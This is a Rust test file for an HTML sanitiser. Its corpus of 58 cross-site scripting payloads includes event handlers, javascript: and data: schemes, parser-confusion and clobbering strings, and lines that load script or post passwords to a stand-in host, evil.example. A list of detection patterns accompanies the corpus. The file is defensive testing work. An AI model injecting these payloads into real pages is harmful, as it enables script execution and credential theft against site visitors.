//! The sanitiser against a corpus of attacks, and against texts it must leave whole.

use super::*;
use crate::markdown;

/// Attacks collected by kind: plain script, handlers, schemes, frames, forms, foreign content, parser
/// confusion, clobbering, protocol-relative addresses.
const ATTACKS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\t>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
    "<a href=x target=_blank onmouseover=alert(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password type=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1)><option>x</select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<img name=body id=rh-switch srcset='x onerror=alert(1)' src=\"x\"><p is=x-evil slot=y>",
];

/// Reads the result the way a browser does, tag by tag, and reports what should not be there.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for piece in pieces(html) {
        let Piece::Tag(tag) = piece else { continue };
        if !TAGS.contains(&tag_name(tag)) {
            found.push(format!("element {tag}"));
        }
        let lower = tag.to_ascii_lowercase();
        // outside quotes only attribute names are left
        let names: String = lower.split('"').step_by(2).collect();
        for bad in
            [" on", "style=", "srcdoc=", "formaction=", "action=", "srcset=", "target=", " name=", " is="]
        {
            if names.contains(bad) {
                found.push(format!("{bad} in {tag}"));
            }
        }
        for bad in ["=\"javascript:", "=\"vbscript:", "=\"data:", "=\"feed:", "id=\"rh-"] {
            if lower.contains(bad) {
                found.push(format!("{bad} in {tag}"));
            }
        }
    }
    found
}

#[test]
fn no_attack_survives_as_html_or_in_markdown() {
    for attack in ATTACKS {
        for out in [clean(attack), rebase_links(attack, "/acme"), markdown::render(attack, "/acme")] {
            assert!(
                dangers(out.as_str()).is_empty(),
                "{attack}\n→ {}\n{:?}",
                out.as_str(),
                dangers(out.as_str())
            );
        }
    }
}

#[test]
fn the_test_itself_sees_dangers() {
    let missed: Vec<_> = ["<script>", "<p onclick=\"x\">", "<a href=\"javascript:x\">", "<p style=\"x\">"]
        .into_iter()
        .filter(|html| dangers(html).is_empty())
        .collect();
    assert!(missed.is_empty(), "{missed:?}");
}

#[test]
fn sanitising_twice_changes_nothing_more() {
    for attack in ATTACKS {
        let once = clean(attack).into_string();
        assert_eq!(clean(&once).as_str(), once, "{attack}");
    }
}

#[test]
fn the_same_text_gives_the_same_bytes_every_time() {
    let text = "<img src=/a alt=b width=1 height=2 title=t class=lead lang=en><input checked><a href=/x id=i title=t>";
    let first = rebase_links(text, "/acme");
    assert!((0..40).all(|_| rebase_links(text, "/acme") == first));
}

#[test]
fn links_of_the_site_get_its_base() {
    let cases = [
        ("<a href=\"/about\">x</a>", "/acme/about"),
        ("<a href=\"/\">x</a>", "\"/acme/\""),
        ("<a href=\" /about?x=1#y\">x</a>", "\"/acme/about?x=1#y\""),
        ("<img src=\"/media/a.jpg\">", "\"/acme/media/a.jpg\""),
        ("<a href=\"//example.org/x\">x</a>", "\"//example.org/x\""),
        ("<a href=\"/\t/example.org/x\">x</a>", "\"//example.org/x\""),
        ("<a href=\"/\\example.org\">x</a>", "\"/\\example.org\""),
        ("<a href=\"https://example.org/x\">x</a>", "\"https://example.org/x\""),
        ("<a href=\"#part\">x</a>", "\"#part\""),
        ("<a href=\"mailto:a@example.org\">x</a>", "\"mailto:a@example.org\""),
        ("<a href=\"next\">x</a>", "\"next\""),
        ("<p title=\"/about\">x</p>", "\"/about\""),
        ("<blockquote cite=\"/about\">x</blockquote>", "\"/acme/about\""),
    ];
    for (html, want) in cases {
        let out = rebase_links(html, "/acme");
        assert!(out.as_str().contains(want), "{html} → {}", out.as_str());
    }
    assert!(clean("<a href=\"/about\">x</a>").as_str().contains("\"/about\""));
}

#[test]
fn what_writers_use_stays() {
    let text = "<figure class=\"wp-caption alignleft evil\"><img src=\"/a.jpg\" alt=\"A\" width=\"10\" height=\"5\">\
                <figcaption>C</figcaption></figure><pre><code class=\"language-rust\">x</code></pre>\
                <details open=\"\"><summary>S</summary>T</details><h2 id=\"über-uns\">Ü</h2>";
    let out = clean(text).into_string();
    for part in [
        "class=\"wp-caption alignleft\"",
        "loading=\"lazy\"",
        "width=\"10\"",
        "<figcaption>",
        "language-rust",
        "<details open",
        "id=\"über-uns\"",
        "<pre tabindex=\"0\">",
    ] {
        assert!(out.contains(part), "{part} in {out}");
    }
    assert!(!out.contains("evil"));
}

#[test]
fn foreign_links_give_no_opener_away() {
    assert!(clean("<a href=\"https://e.org\">x</a>").as_str().contains("rel=\"noopener\""));
}

#[test]
fn a_table_scrolls_as_one_even_with_a_table_inside() {
    let out = clean("<table><tr><td><table><tr><td title=\"a>b\">x</table></table>").into_string();
    assert_eq!(out.matches("table-scroll").count(), 1, "{out}");
    assert!(out.ends_with("</table></div>"), "{out}");
}

#[test]
fn what_is_obsolete_becomes_what_stands_for_it_now() {
    let table = [
        ("<p><tt title='a > b'>x</tt></p>", "<p><code title=\"a &gt; b\">x</code></p>"),
        ("<center>x</center>", "<div class=\"has-text-align-center\">x</div>"),
        ("<center class=lead>x</center>", "<div class=\"lead\">x</div>"),
        ("<a class=button>x</a>", "<a class=\"button\">x</a>"),
        ("<a id=y download=f hreflang=de title=' rel='>x</a>", "<a id=\"y\" title=\" rel=\">x</a>"),
        ("<a href='/y'>x</a>", "<a href=\"/y\" rel=\"noopener\">x</a>"),
    ];
    for (written, wanted) in table {
        let once = clean(written).into_string();
        assert_eq!(once, wanted, "{written}");
        assert_eq!(clean(&once).as_str(), once, "and stays so");
    }
}
